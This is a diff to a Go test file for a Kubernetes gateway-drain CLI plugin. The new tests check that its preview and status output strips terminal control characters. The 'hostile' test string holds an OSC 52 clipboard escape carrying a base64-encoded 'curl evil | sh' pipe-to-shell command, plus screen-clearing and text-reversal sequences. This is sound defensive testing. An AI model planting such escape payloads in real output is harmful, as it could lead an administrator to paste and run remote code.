@@ -7,7 +7,10 @@ import (
 	"strings"
 	"testing"
 	"time"
+	"unicode"
+	"unicode/utf8"
 
+	corev1 "k8s.io/api/core/v1"
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
 	"k8s.io/apimachinery/pkg/runtime"
 	"k8s.io/cli-runtime/pkg/genericiooptions"
@@ -17,6 +20,7 @@ import (
 	"sigs.k8s.io/controller-runtime/pkg/client/interceptor"
 
 	drainv1 "github.com/hermes-agent/hermes-drain-operator/api/v1alpha1"
+	"github.com/hermes-agent/hermes-drain-operator/internal/calls"
 )
 
 func cond(typ string, status metav1.ConditionStatus, reason string) metav1.Condition {
@@ -173,5 +177,75 @@ func TestFollowNamesWhatBlockedADrainItsDeadlineWithdrew(t *testing.T) {
 	if !errors.As(err, &exit) || exit.code != exitStalled || !strings.Contains(err.Error(), "stalled (DeadlineExceeded)") ||
 		!strings.Contains(err.Error(), "before that it was waiting for 1 of 2 targets: gw-1 (Draining: 2 turns in flight)") {
 		t.Errorf("got %v", err)
+	}
+}
+
+// hostile is text a hostile gateway can get into what the plugin prints: it
+// sets the admin's clipboard (OSC 52), clears the screen, breaks the line,
+// and reverses what follows it.
+const hostile = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b[2J\x1b[H\r\nnext\tline\u202edesrever\u009b31m\x9b\x7f"
+
+// inert reports where out holds a character a terminal acts on, besides
+// its own line ends, or -1.
+func inert(out string) int {
+	if !utf8.ValidString(out) {
+		return 0
+	}
+	return strings.IndexFunc(out, func(r rune) bool {
+		return r != '\n' && (unicode.IsControl(r) || unicode.Is(unicode.Bidi_Control, r))
+	})
+}
+
+// preview prints what it read from gateways, and the pods' conditions,
+// inert (issue 23, item 10): one line per pod, nothing a terminal acts on.
+func TestPreviewPrintsGatewayTextInert(t *testing.T) {
+	data := &previewData{Namespace: "hermes", Selector: "app=hermes-gateway", Targets: 3, Read: true, Pods: []previewPod{
+		{Name: "gw-0", Target: true, Ready: corev1.ConditionStatus(hostile), Gate: corev1.ConditionStatus(hostile), Home: &calls.HomeStatus{
+			Home: "/opt/data", Epoch: hostile, Marker: calls.MarkerStatus{State: calls.FilePresent, Whose: hostile, Honoured: true},
+			Gateway: calls.GatewayStatus{State: hostile, ActiveAgents: 1}}},
+		{Name: "gw-1", Target: true, HeldBy: hostile, Home: &calls.HomeStatus{Marker: calls.MarkerStatus{State: calls.FileAbsent},
+			Gateway: calls.GatewayStatus{Problem: hostile}}},
+		{Name: "gw-2", Target: true, Skipped: hostile, ReadError: hostile},
+	}}
+	var out bytes.Buffer
+	if err := printPreview(&options{IOStreams: genericiooptions.IOStreams{Out: &out}}, data); err != nil {
+		t.Fatal(err)
+	}
+	if i := inert(out.String()); i >= 0 {
+		t.Errorf("invalid UTF-8, or a control character at %d of\n%q", i, out.String())
+	}
+	if lines := strings.Count(out.String(), "\n"); lines != 6 {
+		t.Errorf("%d lines, want 6 (a sentence, a blank line, a header, a row per pod):\n%s", lines, out.String())
+	}
+}
+
+// A wait prints the drain's conditions on each change, and the reason it
+// stalled when it stops: inert, however a gateway's text got into them.
+func TestFollowPrintsConditionsInert(t *testing.T) {
+	base := fakeDrain(t, metav1.ConditionFalse)
+	c := interceptor.NewClient(base.(client.WithWatch), interceptor.Funcs{
+		Get: func(ctx context.Context, c client.WithWatch, key client.ObjectKey, obj client.Object, opts ...client.GetOption) error {
+			err := c.Get(ctx, key, obj, opts...)
+			if gwd, ok := obj.(*drainv1.GatewayDrain); ok && err == nil {
+				gwd.Status.Conditions = []metav1.Condition{
+					{Type: drainv1.ConditionDrained, Status: metav1.ConditionFalse, Reason: drainv1.ReasonNoTargets, Message: "gw-1: " + hostile},
+					{Type: drainv1.ConditionStalled, Status: metav1.ConditionTrue, Reason: drainv1.ReasonNoTargets, Message: "gw-1: " + hostile},
+				}
+			}
+			return err
+		},
+	})
+	var out bytes.Buffer
+	o := &options{IOStreams: genericiooptions.IOStreams{Out: &out}, poll: time.Millisecond}
+	err := o.follow(context.Background(), c, client.ObjectKey{Namespace: "hermes", Name: "up"}, drained, 0)
+	var exit *exitCode
+	if !errors.As(err, &exit) || exit.code != exitStalled {
+		t.Fatalf("got %v, want it stalled", err)
+	}
+	if i := inert(out.String()); i >= 0 || strings.Count(out.String(), "\n") != 1 {
+		t.Errorf("want one inert line: invalid UTF-8, or a control character at %d of\n%q", i, out.String())
+	}
+	if i := inert(err.Error()); i >= 0 {
+		t.Errorf("invalid UTF-8, or a control character at %d of the error\n%q", i, err.Error())
 	}
 }
